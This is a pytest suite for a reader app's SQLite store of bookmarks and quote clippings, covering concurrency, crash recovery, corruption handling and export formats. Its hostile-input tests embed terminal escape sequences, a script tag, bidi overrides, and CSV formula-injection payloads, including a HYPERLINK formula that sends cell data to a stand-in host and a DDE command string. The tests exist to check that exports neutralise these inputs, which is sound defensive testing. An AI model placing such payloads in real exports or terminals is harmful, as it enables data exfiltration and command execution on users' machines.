"""The store of read marks, bookmarks and clippings: nothing the user keeps is lost.

Each test says what it checks. Processes are real (subprocess) where the point is what
another process, or a killed one, does to the database.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import textwrap
import time
from dataclasses import asdict, replace
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from tests.interleave import interleave

import flagreader
from flagreader.cli import main
from flagreader.clippings import Clipping, clip_quote, export, from_csv, from_json, source_line, to_markdown
from flagreader.reading import ReadingState, match_marks
from flagreader.schema import SCHEMA_VERSION
from flagreader.store import BUSY_TIMEOUT_SECONDS, DATABASE_NAME, Mark, Store
from flagreader.textsafe import json_safe


def clipping(quote: str = "We know the numbers", note: str = "", mention: str | None = None) -> Clipping:
    return Clipping(
        quote=quote,
        speaker="Aspenbi Zharylgasov",
        role="Deputy Prosecutor",
        article_id="a1",
        title="Kazakhstan Says It Won't Prosecute Four Men",
        blog="Under The Black Flag",
        author="Joanna Paraszczuk",
        source="/seeds/second.txt",
        start=10,
        end=40,
        created="2026-11-22T01:50:00Z",
        note=note,
        speaker_mention=mention,
    )


def test_a_fresh_store_has_the_schema_in_wal_mode(tmp_path: Path) -> None:
    """The database is made in the folder given, in WAL mode, at the current schema version."""
    store = Store.open(tmp_path / "new" / "folder")
    assert store.problem is None and store.persistent
    assert store.path == tmp_path / "new" / "folder" / DATABASE_NAME
    db = sqlite3.connect(store.path)
    assert db.execute("PRAGMA journal_mode").fetchone() == ("wal",)
    assert db.execute("PRAGMA user_version").fetchone() == (SCHEMA_VERSION,)
    store.close()


def test_an_old_schema_is_migrated(tmp_path: Path) -> None:
    """A database at version 0 (an empty file made by an earlier tool) gets every migration."""
    sqlite3.connect(tmp_path / DATABASE_NAME).close()
    store = Store.open(tmp_path)
    assert store.problem is None
    store.add_clipping(clipping())
    assert [c.quote for c in store.clippings()] == ["We know the numbers"]


def test_marks_and_clippings_last_across_opening_again(tmp_path: Path) -> None:
    """What one session saves, the next one finds: marks, clippings, notes, deletions."""
    store = Store.open(tmp_path)
    store.mark("read", [("a1", "Title one", "/x/one.txt"), ("a2", "Title two", "/x/two.txt")])
    store.mark("bookmark", [("a2", "Title two", "/x/two.txt")])
    store.unmark("read", ["a1"])
    first = store.add_clipping(clipping("first"))
    second = store.add_clipping(clipping("second"))
    assert first.id is not None and second.id is not None
    store.set_note(second.id, "check the number")
    store.delete_clipping(first.id)
    store.close()
    again = Store.open(tmp_path)
    assert [m.article_id for m in again.marks("read")] == ["a2"]
    assert [m.title for m in again.marks("bookmark")] == ["Title two"]
    assert [(c.quote, c.note) for c in again.clippings()] == [("second", "check the number")]


def test_state_follows_an_article_that_moved_or_was_edited() -> None:
    """By id when the folder moved; by file and title when the text was edited in place; not
    when only the title is the same (another folder's article), nor when the file now holds
    another article (another title)."""
    first, second = flagreader.load_corpus(extract=False).articles
    moved = replace(first, source="/elsewhere/renamed.txt")
    edited = replace(second, id="edited-id", body=second.body + " Updated.")
    mark_first = Mark("read", first.id, first.title, first.source, "t")
    mark_second = Mark("read", second.id, second.title, second.source, "t")
    assert match_marks([mark_first, mark_second], [moved, edited]) == {
        moved.id: mark_first,
        "edited-id": mark_second,
    }
    same_title_elsewhere = replace(edited, source="/other/folder/notes.txt")
    assert match_marks([mark_second], [same_title_elsewhere]) == {}
    replaced_file = replace(edited, title="Another article altogether")
    assert match_marks([mark_second], [replaced_file]) == {}
    twins = [edited, replace(edited, id="twin")]  # two articles the mark could mean: neither
    assert match_marks([mark_second], twins) == {}


def test_a_file_name_that_is_not_utf8_can_be_marked_and_clipped(tmp_path: Path) -> None:
    """A name with bytes that are not UTF-8 reaches Python with lone surrogates, which SQLite
    cannot store: the mark and the clipping are saved, and the mark still finds the article."""
    article = replace(flagreader.load_corpus().articles[0], id="x", source="/corpus/bad\udcff.txt")
    state = ReadingState(Store.open(tmp_path), [article])
    state.set_mark("read", [article], True)
    clipped = state.clip(article, article.quotes[0].start)
    assert clipped is not None and clipped[0].source == "/corpus/bad\\xff.txt"
    edited = replace(article, id="y")
    assert ReadingState(Store.open(tmp_path), [edited]).is_read(edited)


def test_reading_state_marks_and_clips(tmp_path: Path) -> None:
    """Toggling marks and clipping a quote go to the store, for the articles of a corpus."""
    corpus = flagreader.load_corpus()
    article = corpus.articles[0]
    state = ReadingState(Store.open(tmp_path), corpus.articles)
    assert state.toggle("read", article) is True and state.is_read(article)
    assert state.toggle("bookmark", article) is True
    assert state.toggle("read", article) is False and not state.is_read(article)
    quote = next(q for q in article.quotes if q.text.startswith("In actual fact"))
    clipped = state.clip(article, quote.start)
    assert clipped is not None and clipped[1] is True
    saved = clipped[0]
    assert saved.id is not None and saved.speaker == "Nurgali Bilisbekov"
    assert state.clip(article, quote.start + 5) == (saved, False)  # the same quote: not saved twice
    assert state.clip(article, 0) is None  # no quotation at the very start
    other = ReadingState(Store.open(tmp_path), corpus.articles)  # a later session
    assert other.is_bookmarked(article) and not other.is_read(article)
    assert [c.id for c in other.store.clippings()] == [saved.id]
    assert other.article_of(saved) == (article, (saved.start, saved.end))


_WRITER = textwrap.dedent(
    """
    import sys
    from flagreader.clippings import Clipping
    from flagreader.store import Store

    store = Store.open(sys.argv[1])
    if store.problem:
        sys.exit(store.problem)
    name, count = sys.argv[2], int(sys.argv[3])
    for number in range(count):
        saved = store.add_clipping(Clipping(
            quote=f"{name} {number} " + "words " * 200, speaker=name, role=None, article_id=name,
            title=name, blog=None, author=None, source=name, start=None, end=None,
            created="2026-11-22T00:00:00Z"))
        store.mark("bookmark", [(f"{name}-{number}", name, name)])
        print(saved.id, flush=True)
    """
)


def test_two_processes_on_one_database_lose_no_write(tmp_path: Path) -> None:
    """Two writers started at once on a new folder (so both make the database), each saving
    clippings and bookmarks one transaction at a time: both keep the database (neither falls
    back to memory), and every write of both is there. Five times over, since a race shows
    itself only sometimes."""
    for attempt in range(5):
        folder = tmp_path / str(attempt)
        writers = [
            subprocess.Popen(
                [sys.executable, "-c", _WRITER, str(folder), name, "60"],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for name in ("left", "right")
        ]
        outputs = [writer.communicate(timeout=120) for writer in writers]
        assert [writer.returncode for writer in writers] == [0, 0], [err for _, err in outputs]
        store = Store.open(folder)
        saved = store.clippings()
        assert len(saved) == 120
        assert {c.id for c in saved} == {int(line) for out, _ in outputs for line in out.split()}
        assert {c.speaker for c in saved} == {"left", "right"}
        assert len(store.marks("bookmark")) == 120
        store.close()


def test_killed_mid_writing_keeps_every_committed_clipping(tmp_path: Path) -> None:
    """SIGKILL while clippings are being written: every clipping reported as committed is
    there, whole, and the database passes PRAGMA integrity_check."""
    writer = subprocess.Popen(
        [sys.executable, "-c", _WRITER, str(tmp_path), "killed", "100000"], stdout=subprocess.PIPE, text=True
    )
    assert writer.stdout is not None
    committed = [int(writer.stdout.readline()) for _ in range(200)]
    os.kill(writer.pid, signal.SIGKILL)
    committed += [int(line) for line in writer.stdout.read().split()]  # printed before the kill
    writer.wait(timeout=30)
    assert writer.returncode == -signal.SIGKILL
    store = Store.open(tmp_path)
    assert store.problem is None
    saved = {c.id: c for c in store.clippings()}
    assert set(committed) <= set(saved)
    assert all(c.quote.endswith("words " * 200) for c in saved.values())
    db = sqlite3.connect(tmp_path / DATABASE_NAME)
    assert db.execute("PRAGMA integrity_check").fetchall() == [("ok",)]


def _garbage(path: Path) -> None:
    path.write_bytes(b"this is not a database\x00\xff" * 200)


def _damaged(path: Path) -> None:
    store = Store.open(path.parent)
    for number in range(300):
        store.add_clipping(clipping(f"quote {number} " + "x" * 500))
    store.close()
    data = bytearray(path.read_bytes())
    data[4096 * 3 : 4096 * 6] = b"\xde\xad" * 3072  # pages in the middle, header intact
    path.write_bytes(bytes(data))


def test_a_database_made_by_another_process_while_this_one_checks_it_is_not_moved_aside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Another reader makes the database (and saves a bookmark) between this one's reads of
    # the schema version and of the tables: the two must agree, or this reader takes the
    # new database for another program's and moves the user's state out of sight.
    def other_reader() -> None:
        store = Store.open(tmp_path)
        store.mark("bookmark", [("a1", "Title", "a.txt")])
        store.close()

    other = interleave(monkeypatch, "SELECT name FROM sqlite_master", other_reader)
    store = Store.open(tmp_path)
    other.join()
    assert store.problem is None
    assert [mark.article_id for mark in store.marks("bookmark")] == ["a1"]
    store.close()
    assert sorted(path.name for path in tmp_path.iterdir() if "corrupt" in path.name) == []


@pytest.mark.parametrize("spoil", [_garbage, _damaged], ids=["not-a-database", "damaged-pages"])
def test_a_corrupt_database_is_moved_aside_and_a_fresh_one_made(tmp_path: Path, spoil: object) -> None:
    """The bad file is kept, renamed, byte for byte; the message says where; the fresh store
    works and lasts."""
    path = tmp_path / DATABASE_NAME
    spoil(path)  # type: ignore[operator]
    bad = path.read_bytes()
    store = Store.open(tmp_path)
    assert store.problem is not None and "moved aside to state.sqlite3.corrupt-" in store.problem
    aside = [p for p in tmp_path.iterdir() if p.name.startswith(f"{DATABASE_NAME}.corrupt-")]
    assert len(aside) == 1 and aside[0].name in store.problem
    assert next(p for p in aside if "-wal" not in p.name).read_bytes() == bad
    assert store.persistent and store.clippings() == []
    store.add_clipping(clipping())
    store.close()
    assert len(Store.open(tmp_path).clippings()) == 1


def test_a_database_from_a_newer_version_is_left_alone(tmp_path: Path) -> None:
    """Not ours to change or move: the state stays in memory and the message says why."""
    path = tmp_path / DATABASE_NAME
    db = sqlite3.connect(path)
    db.execute("PRAGMA user_version = 99")
    db.close()
    before = path.read_bytes()
    store = Store.open(tmp_path)
    assert not store.persistent
    assert store.problem is not None and "newer flagreader" in store.problem
    assert "will not be saved" in store.problem
    store.add_clipping(clipping())  # works for the session
    assert path.read_bytes() == before
    assert not any(".corrupt-" in p.name for p in tmp_path.iterdir())


def test_clippings_from_a_newer_version_are_not_exported_as_none(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A newer flagreader's database cannot be read here: `clippings -o FILE` wrote an empty
    export and exited 0, so a nightly `-o backup.md --force` would have replaced the backup
    with nothing. It is refused with exit 1, to a file and to standard output alike."""
    path = tmp_path / DATABASE_NAME
    db = sqlite3.connect(path)
    db.execute("PRAGMA user_version = 99")
    db.close()
    backup = tmp_path / "backup.md"
    backup.write_text("last night's clippings\n", encoding="utf-8")
    data = ["--data-dir", str(tmp_path)]
    assert main(["clippings", "-o", str(backup), "--force", *data]) == 1
    assert "none are exported" in capsys.readouterr().err
    assert backup.read_text(encoding="utf-8") == "last night's clippings\n"
    assert main(["clippings", "--format", "json", *data]) == 1
    captured = capsys.readouterr()
    assert captured.out == "" and "newer flagreader" in captured.err
    assert Store.open(tmp_path).unread and not Store.open(tmp_path / "fresh").unread


def test_a_data_folder_that_cannot_be_made_keeps_state_in_memory(tmp_path: Path) -> None:
    """A data folder under a file cannot exist: the store works for the session and says
    that nothing will be saved, naming the folder."""
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    store = Store.open(blocker / "data")
    assert not store.persistent
    assert store.problem is not None
    assert store.problem.startswith("state will not be saved") and str(blocker / "data") in store.problem
    store.mark("read", [("a1", "t", "s")])
    assert [m.article_id for m in store.marks("read")] == ["a1"]


@pytest.mark.skipif(
    hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes to read-only folders anyway"
)
def test_a_read_only_data_folder_shows_what_was_saved_and_saves_nothing(tmp_path: Path) -> None:
    """An existing database in a folder made read-only: its state is shown (read from the
    file), changes stay in memory, and the file is unchanged."""
    store = Store.open(tmp_path)
    store.add_clipping(clipping("kept from before"))
    store.close()
    before = (tmp_path / DATABASE_NAME).read_bytes()
    tmp_path.chmod(0o555)
    try:
        store = Store.open(tmp_path)
        assert not store.persistent
        assert store.problem is not None and "will not be saved" in store.problem
        assert [c.quote for c in store.clippings()] == ["kept from before"]
        store.add_clipping(clipping("only for now"))
        assert (tmp_path / DATABASE_NAME).read_bytes() == before
    finally:
        tmp_path.chmod(0o755)


def test_when_the_database_cannot_be_written_what_it_holds_is_shown_wal_included(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The fallback when SQLite refuses to write (a read-only folder or file, as a non-root user
    sees it; simulated here so that it runs as root too): the state in memory holds every
    committed clipping, those still in the WAL file included, and the files are unchanged."""
    store = Store.open(tmp_path)
    store._db.execute("PRAGMA wal_autocheckpoint = 0")  # keep what follows in the WAL file
    for number in range(5):
        store.add_clipping(clipping(f"in the wal {number}"))
    wal = tmp_path / f"{DATABASE_NAME}-wal"
    assert wal.stat().st_size > 0
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def refuse(path: Path) -> sqlite3.Connection:
        raise sqlite3.OperationalError("attempt to write a readonly database")

    monkeypatch.setattr("flagreader.store._connect", refuse)
    fallback = Store.open(tmp_path)
    assert not fallback.persistent
    assert fallback.problem is not None and "attempt to write a readonly database" in fallback.problem
    assert [c.quote for c in fallback.clippings()] == [f"in the wal {n}" for n in range(5)]
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
    store.close()


HOSTILE = [
    "[b]bold[/b] [/] [@click=app.quit]quit[/] [countries]",
    "\x1b[31mred\x1b[0m \x1b]52;c;aGk=\x07 \x1b[2J bell\x07 backspace\x08",
    "*emphasis* _x_ `code` <script>alert(1)</script> &amp; \\ back\\slash | a | b |",
    "line one\nline two\n\nafter a blank line\n",
    "  leading and trailing  \t",
    "# heading\n> quote\n- item\n1. item\n    code\n===\n~~~",
    "crlf\r\nand a lone cr\r here",
    "unicode: Ж ж ‘curly’ “quotes” — dash \u200f\u202e bidi \u00a0nbsp\u00a0 👍",
    "quote with \"double\" and 'single', commas, and\ttabs",
    "controls inside a line: \x0b \x0c \x1c \x1f \x85 \x7f \x9b31m end",
]
# Markdown cannot carry these (CommonMark turns NUL into U+FFFD, and drops whitespace controls
# at the very end of a line); JSON and CSV carry them.
NOT_FOR_MARKDOWN = ["NUL \x00 inside", "ends with a vertical tab\x0b", "\x1cstarts with a separator"]


def _markdown_quotes(markdown: str) -> list[str]:
    """The text of each block quote in a Markdown document, as a CommonMark parser reads it."""
    quotes, inside = [], 0
    current: list[str] = []
    for token in MarkdownIt("commonmark").parse(markdown):
        if token.type == "blockquote_open":
            inside, current = inside + 1, []
        elif token.type == "blockquote_close":
            inside -= 1
            quotes.append("".join(current))
        elif inside and token.type == "inline":
            for child in token.children or []:
                if child.type == "text":
                    current.append(child.content)
                elif child.type in ("softbreak", "hardbreak"):
                    current.append("\n")
                else:
                    current.append(f"<unexpected {child.type}: {child.content!r}>")
    return quotes


def _markdown_notes(markdown: str) -> list[str]:
    """The text after "Note: " in each paragraph that starts so, as a CommonMark parser reads it."""
    notes = []
    for token in MarkdownIt("commonmark").parse(markdown):
        if token.type == "inline" and token.content.startswith("Note: "):
            parts = []
            for child in token.children or []:
                parts.append(child.content if child.type == "text" else "\n")
            notes.append("".join(parts).removeprefix("Note: "))
    return notes


def test_hostile_text_round_trips_through_the_store_and_every_format(tmp_path: Path) -> None:
    """Markup, terminal escapes, Markdown syntax, odd whitespace and 1 MB of text come back
    exactly: from the database, from JSON and CSV, and as a CommonMark parser reads the
    Markdown (the quotes and the notes). So do the words that named the speaker."""
    big = ("0123456789 [x] \x1b[0m *y*\n" * 40_000)[:1_000_000]
    texts = [*HOSTILE, big]
    store = Store.open(tmp_path)
    for text in [*texts, *NOT_FOR_MARKDOWN]:
        store.add_clipping(clipping(quote=text, note=text[::-1][:5000], mention=text[:300]))
    store.close()
    saved = Store.open(tmp_path).clippings()
    assert [c.quote for c in saved] == [*texts, *NOT_FOR_MARKDOWN]
    assert [c.speaker_mention for c in saved] == [text[:300] or None for text in [*texts, *NOT_FOR_MARKDOWN]]
    assert [c.note for c in saved] == [text[::-1][:5000] for text in [*texts, *NOT_FOR_MARKDOWN]]
    assert from_json(export(saved, "json")) == saved
    assert from_json(json_safe(export(saved, "json"))) == saved
    assert from_csv(export(saved, "csv")) == saved
    markdown = to_markdown(saved[: len(texts)])
    assert _markdown_quotes(markdown) == texts
    assert _markdown_notes(markdown) == [text[::-1][:5000] for text in texts]


def test_markdown_puts_the_citation_under_each_quote() -> None:
    """Each quote is a block quote, its speaker, role, title, blog and author under it."""
    corpus = flagreader.load_corpus()
    article = corpus.articles[0]
    quote = next(q for q in article.quotes if q.text.startswith("In actual fact"))
    made = clip_quote(article, quote.start, created="2026-11-22T01:50:00Z")
    assert made is not None
    markdown = to_markdown([replace(made, note="compare with Abykaev")])
    lines = markdown.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("> In actual fact"))
    assert lines[start + 2].startswith("— Nurgali Bilisbekov, Deputy Chairman of Kazakhstan's National")
    assert "Kazakhs Fighting With IS Are 'Victims Of Radical Propaganda'" in lines[start + 2]
    assert "Under The Black Flag, Joanna Paraszczuk" in lines[start + 2]
    # A bundled seed is cited by its blog and title, never by a path inside an install.
    assert lines[start + 3] == "clipped 2026-11-22T01:50:00Z"
    assert article.source not in markdown
    assert "Note: compare with Abykaev" in markdown


@pytest.mark.parametrize("format", ["md", "json", "csv"])
def test_the_clippings_command_prints_every_format(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], format: str
) -> None:
    """`flagreader clippings --format F --data-dir D` prints the clippings kept in D, exactly
    (JSON with bidi and C1 controls as \\u escapes: the same JSON)."""
    store = Store.open(tmp_path)
    for text in HOSTILE:
        store.add_clipping(clipping(quote=text))
    saved = store.clippings()
    store.close()
    assert main(["clippings", "--format", format, "--data-dir", str(tmp_path)]) == 0
    printed = capsys.readouterr().out
    expected = export(saved, format)
    assert printed == (json_safe(expected) if format == "json" else expected)
    if format == "json":
        assert from_json(printed) == saved
    out = tmp_path / f"out.{format}"
    assert main(["clippings", "--format", format, "--data-dir", str(tmp_path), "-o", str(out)]) == 0
    assert out.read_bytes().decode("utf-8") == printed


def test_on_a_terminal_the_clippings_command_shows_escapes_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Printed to a terminal, no format lets an ESC, a C1 control or a bidi override through;
    the JSON is still the same JSON."""
    store = Store.open(tmp_path)
    store.add_clipping(clipping(quote="A\x9b31mRED \u202eevil \x1b[2J\x7f"))
    saved = store.clippings()
    store.close()
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    for format in ("md", "json", "csv"):
        assert main(["clippings", "--format", format, "--data-dir", str(tmp_path)]) == 0
        printed = capsys.readouterr().out
        assert not any(c in printed for c in "\x1b\x9b\u202e\x7f"), format
        if format == "json":
            assert from_json(printed) == saved


def test_the_clippings_command_picks_the_format_from_the_file_and_reports_bad_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`-o x.json` writes JSON; a folder that does not exist, or a folder as the file, is a
    one-line message and exit code 1, not a traceback."""
    Store.open(tmp_path).add_clipping(clipping())
    out = tmp_path / "x.json"
    assert main(["clippings", "--data-dir", str(tmp_path), "-o", str(out)]) == 0
    assert from_json(out.read_text(encoding="utf-8"))[0].quote == "We know the numbers"
    for bad in (tmp_path / "missing" / "x.md", tmp_path):
        assert main(["clippings", "--data-dir", str(tmp_path), "-o", str(bad)]) == 1
        assert f"cannot write {bad}" in capsys.readouterr().err
    assert not list(tmp_path.glob(".*.tmp"))


_LOCKER = """
import sqlite3, sys, time
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
print("locked", flush=True)
sys.stdin.readline()
db.execute("COMMIT")
"""


def test_a_database_another_process_holds_locked_opens_at_once_and_keeps_saving(tmp_path: Path) -> None:
    """Start-up waited out the 10 s busy timeout on a database another process held in a
    write transaction, then fell back to memory for the whole session."""
    Store.open(tmp_path).close()
    locker = subprocess.Popen(
        [sys.executable, "-c", _LOCKER, str(tmp_path / DATABASE_NAME)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert locker.stdout is not None and locker.stdout.readline() == "locked\n"
        started = time.monotonic()
        store = Store.open(tmp_path)
        assert time.monotonic() - started < BUSY_TIMEOUT_SECONDS
        assert store.persistent and store.problem is None
        with pytest.raises(sqlite3.OperationalError, match="locked"):
            store.mark("read", [("a", "A", "a.txt")])  # the reader says so and goes on
    finally:
        locker.communicate("\n", timeout=30)
    store.mark("read", [("a", "A", "a.txt")])  # the lock is gone: saved
    store.close()
    assert [m.article_id for m in Store.open(tmp_path).marks("read")] == ["a"]


def test_a_clipping_keeps_the_words_that_named_the_speaker(tmp_path: Path) -> None:
    """The mention of the quotation's first piece ("Bilisbekov" in "..., Bilisbekov said"),
    kept in the store; None when the text names nobody at the quotation."""
    article = flagreader.load_corpus().articles[0]
    quote = next(q for q in article.quotes if q.text.startswith("In actual fact"))
    made = clip_quote(article, quote.start)
    assert made is not None and made.speaker_mention == "Bilisbekov"
    unnamed = next(q for q in article.quotes if q.text.startswith("undergoing clarification"))
    assert unnamed.speaker == "Nurgali Bilisbekov" and unnamed.speaker_mention is None
    unnamed_clip = clip_quote(article, unnamed.start)
    assert unnamed_clip is not None and unnamed_clip.speaker_mention is None
    store = Store.open(tmp_path)
    store.add_clipping(made)
    store.add_clipping(unnamed_clip)
    store.close()
    assert [c.speaker_mention for c in Store.open(tmp_path).clippings()] == ["Bilisbekov", None]


def test_an_export_written_before_the_speaker_mention_was_kept_still_reads() -> None:
    """JSON and CSV written without the field read back with it empty, every other field as
    written."""
    saved = [replace(clipping(quote, note="n"), id=number) for number, quote in enumerate(HOSTILE[:3], 1)]
    old = [{k: v for k, v in asdict(c).items() if k != "speaker_mention"} for c in saved]
    assert from_json(json.dumps(old)) == saved
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(old[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({k: "" if v is None else v for k, v in row.items()} for row in old)
    assert "speaker_mention" not in out.getvalue() and "speaker_mention" in export(saved, "csv")
    assert from_csv(out.getvalue()) == saved


def test_clippings_saved_before_origins_were_kept_keep_everything_and_cite_their_folder_and_file(
    tmp_path: Path,
) -> None:
    """A database one version old (clippings without an origin) is migrated: its clippings
    stay, with no origin, cited by their folder and file as before; new ones keep theirs."""
    from flagreader.schema import MIGRATIONS

    db = sqlite3.connect(tmp_path / DATABASE_NAME)
    for migration in MIGRATIONS[:-1]:
        db.executescript(migration)
    db.execute(f"PRAGMA user_version = {len(MIGRATIONS) - 1}")
    db.execute(
        "INSERT INTO clippings (quote, article_id, title, source, created, note)"
        " VALUES ('We know', 'a1', 'A title', '/corpus/bbc/business/001.txt', '2026-11-22T01:50:00Z', '')"
    )
    db.commit()
    db.close()
    store = Store.open(tmp_path)
    assert store.problem is None
    (old,) = store.clippings()
    assert old.quote == "We know" and old.origin is None
    assert source_line(old) == 'unattributed; "A title", business/001.txt'
    store.add_clipping(replace(clipping(), blog=None, author=None, origin="2016/business/001.txt"))
    assert [c.origin for c in Store.open(tmp_path).clippings()] == [None, "2016/business/001.txt"]


def test_clippings_o_never_replaces_a_file_or_a_link_unless_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`clippings -o FILE` renamed its export over whatever had the name. Now: refused with
    exit 1 when nothing can ask (a pipe), asked at a terminal, replaced with --force; a link
    is replaced as a link, what it points to never written."""
    store = Store.open(tmp_path / "data")
    store.add_clipping(clipping())
    store.close()
    data = ["--data-dir", str(tmp_path / "data")]
    mine = tmp_path / "mine.md"
    mine.write_text("my own notes\n", encoding="utf-8")
    target = tmp_path / "target.md"
    target.write_text("pointed at\n", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(target)
    capsys.readouterr()
    assert main(["clippings", "-o", str(mine), *data]) == 1
    assert f"{mine} is a file already; --force replaces it" in capsys.readouterr().err
    assert main(["clippings", "-o", str(link), *data]) == 1
    assert f"{link} is a symbolic link to {target} already" in capsys.readouterr().err
    assert mine.read_text(encoding="utf-8") == "my own notes\n" and link.is_symlink()
    assert main(["clippings", "-o", str(tmp_path), *data]) == 1
    assert "is a folder" in capsys.readouterr().err
    assert main(["clippings", "-o", str(link), "--force", *data]) == 0
    assert not link.is_symlink() and "We know the numbers" in link.read_text(encoding="utf-8")
    assert target.read_text(encoding="utf-8") == "pointed at\n"

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    for answer, replaced in (("n\n", False), ("y\n", True)):
        with monkeypatch.context() as patched:
            patched.setattr(sys, "stdin", Terminal(answer))
            patched.setattr(sys, "stderr", Terminal())
            code = main(["clippings", "-o", str(mine), *data])
            asked = sys.stderr.getvalue()
        assert f"{mine} is a file already. Replace it? [y/N]" in asked
        assert code == (0 if replaced else 1)
        assert ("We know the numbers" in mine.read_text(encoding="utf-8")) is replaced
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "link.md", "mine.md", "target.md"]


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_mark_and_read_back_the_same() -> None:
    """Opened in a spreadsheet, a quote or note starting "=HYPERLINK(" ran as a formula (and
    "=cmd|..." as a program, through DDE); exports quote such cells as spreadsheets do."""
    texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2",
        "@SUM(1)",
        "'=already",
    ]
    saved = [replace(clipping(quote=text, note=text), id=number) for number, text in enumerate(texts, 1)]
    written = export(saved, "csv")
    rows = list(csv.reader(io.StringIO(written, newline="")))
    header = rows[0]
    for row, text in zip(rows[1:], texts, strict=True):
        assert row[header.index("quote")] == "'" + text and row[header.index("note")] == "'" + text
    assert from_csv(written) == saved
